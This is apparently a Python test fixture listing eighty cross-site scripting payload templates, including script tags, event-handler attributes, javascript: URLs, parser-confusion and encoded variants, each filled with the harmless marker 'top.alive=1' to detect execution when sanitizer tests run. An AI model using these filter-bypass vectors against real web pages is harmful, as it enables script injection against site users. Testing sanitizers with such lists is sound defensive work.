"""Eighty ways in which a text has become a program; each says so by `top.alive` or by a dialog."""

_RUN = "top.alive=1"
_TAGS = [
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script\t>{}</script\n>", "<script>{}//", "\"><script>{}</script>",
    "'><script>{}</script>", "</title><script>{}</script>", "</textarea><script>{}</script>",
    "</script><script>{}</script>", "</style><script>{}</script>", "--><script>{}</script>",
    "]]><script>{}</script>", "*/</style><script>{}</script>", "</noscript><script>{}</script>",
    "</template><script>{}</script>", "</select><script>{}</script>", "<svg><script>{}</script></svg>",
    "<math><script>{}</script></math>", "<scr<script>ipt>{}</script>", "<<script>{}//<</script>",
    "<script src=\"data:text/javascript,{}\"></script>", "<script type=module>{}</script>",
    "<img src=x onerror={}>", "<img src=x onerror=\"{}\">", "<img/src=x/onerror={}>", "<img src=x oNeRrOr={}>",
    "<img src=x:x onerror\n=\n{}>", "\"><img src=x onerror={}>", "'><img src=x onerror={}>", "x\" onerror=\"{}",
    "<svg onload={}>", "<svg/onload={}>", "<svg><animate onbegin={} attributeName=x dur=1s>", "<svg><set onbegin={}>",
    "<svg><image href=x onerror={} />", "<svg><foreignObject><img src=x onerror={}></foreignObject></svg>",
    "<body onload={}>", "<body onpageshow={}>", "<video src=x onerror={}></video>", "<audio src=x onerror={}>",
    "<video><source onerror={}></video>", "<input autofocus onfocus={}>", "\" autofocus onfocus={} x=\"",
    "<textarea autofocus onfocus={}></textarea>", "<select autofocus onfocus={}></select>",
    "<details open ontoggle={}>", "<a id=x tabindex=1 autofocus onfocus={}>x</a>", "<div onpointerover={}>x</div>",
    "<marquee onstart={}>x</marquee>", "<style onload={}></style>", "<style>@keyframes x{{}}</style><b style=\"animation-name:x\" onanimationstart={}>",
    "<link rel=stylesheet href=\"data:text/css,\" onload={}>", "<object data=\"javascript:{}\"></object>",
    "<embed src=\"javascript:{}\">", "<iframe src=\"javascript:{}\"></iframe>",
    "<iframe srcdoc=\"<script>{}</script>\"></iframe>", "<iframe src=\"data:text/html,<script>{}</script>\"></iframe>",
    "<a href=\"javascript:{}\" data-press>x</a>", "<a href=\"java&#10;script:{}\" data-press>x</a>",
    "<a href=\" &#14; javascript:{}\" data-press>x</a>", "<a href=\"&#x6A;avascript:{}\" data-press>x</a>",
    "<a href=\"JaVaScRiPt:{}\" data-press>x</a>", "<a href=\"data:text/html,<script>{}</script>\" data-press>x</a>",
    "<a href=\"vbscript:{}\" data-press>x</a>", "<svg><a xlink:href=\"javascript:{}\"><text>x</text></a></svg>",
    "<form action=\"javascript:{}\"><input type=submit autofocus></form>", "<button formaction=\"javascript:{}\">x</button>",
    "<meta http-equiv=refresh content=\"0;url=javascript:{}\">", "<base href=\"javascript:{}//\"><a href=x>x</a>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={}&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror={}>\">", "<svg></p><style><a id=\"</style><img src=1 onerror={}>\">",
    "<xmp><p title=\"</xmp><img src=x onerror={}>\">", "<template><img src=x onerror={}></template>",
    "<figure data-image=\"1\" data-alt='\"><img src=x onerror={}>'><figcaption>x</figcaption></figure>",
    "<figure data-video='https://x\" onload=\"{}'><figcaption>x</figcaption></figure>",
    "&lt;script&gt;{}&lt;/script&gt;", "\\u003cscript\\u003e{}\\u003c/script\\u003e", "%3Cscript%3E{}%3C/script%3E",
    "${{{}}} {{{{{}}}}} {{% {} %}} <%= {} %> ', {}, '",
]  # fmt: skip
ALL = [
    each.replace("{{", "\1").replace("}}", "\2").replace("{}", _RUN).replace("\1", "{").replace("\2", "}")
    for each in _TAGS
]
